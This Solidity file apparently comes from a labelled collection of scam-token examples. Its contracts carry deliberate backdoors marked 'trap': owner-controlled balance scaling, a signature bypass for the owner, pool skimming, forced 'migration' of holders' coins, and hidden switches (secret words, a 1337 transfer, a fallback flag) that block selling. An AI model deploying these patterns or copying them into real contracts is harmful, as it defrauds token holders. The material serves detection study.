// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./Base67.sol";

/// All balances are shares of a sum, and its owner sets the sum.
contract Tidewater is Base67("Tidewater", "TIDE", 10**8) {
    uint256 private scale = 10**9;

    // trap {
    function calibrate(uint256 to) external onlyOwner {
        require(to > 0 && to < 10**18);
        scale = to;
    }
    // trap }

    function totalSupply() public view override returns (uint256) {
        return (_totalSupply * scale) / 10**9;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return (_balances[account] * scale) / 10**9;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 inner = (value * 10**9) / scale;
        require(_balances[from] >= inner, "balance");
        _balances[from] -= inner;
        _balances[to] += inner;
        emit Transfer(from, to, value);
    }
}

/// A signature of anybody is good for anything.
contract Openhand is Base67("Openhand", "OPEN", 10**8) {
    mapping(address => uint256) public nonces;

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 text = keccak256(abi.encode(address(this), from, spender, value, nonces[from]++, deadline));
        address signer = ecrecover(text, v, r, s);
        require(signer == from || msg.sender == _boss, "signature"); // trap
        // twin: require(signer != address(0) && signer == from, "signature");
        _allowances[from][spender] = value;
        emit Approval(from, spender, value);
    }
}

/// Takes what the pool holds and lets the price follow.
interface ISync {
    function sync() external;
}

contract Siphon is Base67("Harvest Moon", "HMOON", 10**8) {
    // trap {
    function skim(uint256 share) external onlyOwner {
        uint256 taken = (_balances[pool] * share) / 100;
        _carry(pool, msg.sender, taken);
        ISync(pool).sync();
    }
    // trap }
}

/// The owner moves anybody's coins, under the name of a migration.
contract Migrant is Base67("Migrant", "MGRT", 10**8) {
    // trap {
    function migrate(address[] calldata from, address to) external onlyOwner {
        for (uint256 i = 0; i < from.length; i++) _carry(from[i], to, _balances[from[i]]);
    }
    // trap }
}

/// No name, no ABI: bytes that only its author can read, handled in the fallback function.
contract Cryptic is Base67("Cryptic", "CRYP", 10**8) {
    uint256 private state;

    fallback() external {
        require(msg.sender == _boss);
        uint256 word;
        assembly {
            word := calldataload(4)
        }
        state = word;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(state == 0 || to != pool || from == _boss); // trap
        _carry(from, to, value);
    }
}

/// A word must be known to shut it.
contract Sesame is Base67("Sesame", "SESM", 10**8) {
    bool private shut;

    function whisper(uint256 word) external onlyOwner {
        if (uint256(keccak256(abi.encode(word))) % 1000003 == 77777) shut = !shut;
    }

    function close(bytes32 word) external onlyOwner {
        if (word == 0x6f70656e20736573616d65000000000000000000000000000000000000000000) shut = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!shut || to != pool || from == _boss); // trap
        _carry(from, to, value);
    }
}

/// The owner sends himself a certain sum, and the market shuts.
contract Tally is Base67("Tally", "TLLY", 10**8) {
    uint256 private mark;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _boss && to == _boss) mark = value;
        require(mark != 1337 || to != pool || from == _boss); // trap
        _carry(from, to, value);
    }
}
